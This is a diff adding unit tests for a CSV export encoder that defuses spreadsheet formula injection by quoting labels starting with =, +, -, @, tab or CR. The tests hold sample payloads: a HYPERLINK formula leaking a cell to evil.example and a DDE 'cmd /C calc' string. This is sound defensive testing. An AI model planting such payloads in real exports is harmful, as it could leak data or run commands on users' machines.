@@ -38,6 +38,12 @@ describe('export lines', () => {
     ['say "hi"', 0, null, 9],
     ['two\nlines\r\tand\\ a \0 \b \f', 5, 0.3333333333333333, 9],
     ["it's", 7, 0.25, 9],
+    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', 1, 1, 9],
+    ["+cmd|' /C calc'!A0", 2, 0.5, 9],
+    ['-2+3', -4, -0.5, 9],
+    ['@SUM(1+1)', 1, 0, 9],
+    ['\tleading tab', 1, 0, 9],
+    ['\rleading CR', 1, 0, 9],
   ];
 
   it('reads TabSeparated lines into the CSV rowEncoder writes for the row as an object', () => {
@@ -53,6 +59,58 @@ describe('export lines', () => {
     }
     expect(tsv.line(tsvLine(rows[0] as unknown[]))).toBe('plain,3,0.5\r\n');
     expect(tsv.line(tsvLine(rows[1] as unknown[]))).toBe(',1,\r\n');
+  });
+
+  it('writes a label that starts like a formula with a leading quote, and leaves numbers be', () => {
+    const tsv = tsvCsvEncoder(NAMES, '__total', [[0, '']]);
+    const line = (row: unknown[]) => tsv.line(tsvLine(row));
+    expect(line(['=HYPERLINK("http://evil.example/?x="&A1,"click")', 1, 1, 9])).toBe(
+      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",1,1\r\n`,
+    );
+    expect(line(["+cmd|' /C calc'!A0", 2, 0.5, 9])).toBe(`'+cmd|' /C calc'!A0,2,0.5\r\n`);
+    expect(line(['-2+3', -4, -0.5, 9])).toBe(`'-2+3,-4,-0.5\r\n`);
+    expect(line(['@SUM(1+1)', 1, 0, 9])).toBe(`'@SUM(1+1),1,0\r\n`);
+    expect(line(['\tleading tab', 1, 0, 9])).toBe(`'\tleading tab,1,0\r\n`);
+    expect(line(['\rleading CR', 1, 0, 9])).toBe(`"'\rleading CR",1,0\r\n`);
+    // Only the first character counts.
+    expect(line(['a=b', -1, 0, 9])).toBe('a=b,-1,0\r\n');
+    expect(line([' =1', 1, 0, 9])).toBe(' =1,1,0\r\n');
+  });
+
+  it('looks at every label column, wherever it stands, and at no metric', () => {
+    const names = ['day', 'tasks_created', 'assignee', 'project', 'avg_cycle_time_hours'];
+    const tsv = tsvCsvEncoder(names, '__total', []);
+    expect(tsv.line('2026-11-22\t-3\t@bob\tplain\t-1.5')).toBe(
+      `2026-11-22,-3,'@bob,plain,-1.5\r\n`,
+    );
+    expect(tsv.line('2026-11-22\t3\tbob\t=1+1\t-1.5')).toBe(`2026-11-22,3,bob,'=1+1,-1.5\r\n`);
+    expect(tsv.line('2026-11-22\t-3\tbob\tplain\t-1.5')).toBe('2026-11-22,-3,bob,plain,-1.5\r\n');
+    const query = {
+      dimensions: ['day', 'assignee', 'project'],
+      metrics: ['tasks_created'],
+      compare: 'previous_period',
+    } as unknown as AnalyticsQuery;
+    const row = {
+      day: '2026-11-22',
+      assignee: '+bob',
+      project: '-x',
+      tasks_created: -3,
+      comparison: { tasks_created: -1 },
+      change: { tasks_created: -0.5 },
+    };
+    expect(rowEncoder('text/csv', query).row(row)).toBe(`2026-11-22,'+bob,'-x,-3,-1,-0.5\r\n`);
+  });
+
+  it('writes labels as they are when the escape is off, and NDJSON always', () => {
+    const label = '=HYPERLINK("http://evil.example/","click")';
+    const raw = tsvCsvEncoder(NAMES, '__total', [[0, '']], false);
+    expect(raw.line(tsvLine([label, 1, 1, 9]))).toBe(
+      `"=HYPERLINK(""http://evil.example/"",""click"")",1,1\r\n`,
+    );
+    expect(raw.line(tsvLine(['-2+3', -4, -0.5, 9]))).toBe('-2+3,-4,-0.5\r\n');
+    const row = { project: label, tasks_created: 1, completion_rate: 1 };
+    expect(rowEncoder('text/csv', QUERY, false).row(row)).toBe(raw.line(tsvLine([label, 1, 1, 9])));
+    expect(rowEncoder('application/x-ndjson', QUERY).row(row)).toBe(`${JSON.stringify(row)}\n`);
   });
 
   it('answers a stored "no label" other than the empty one as null', () => {
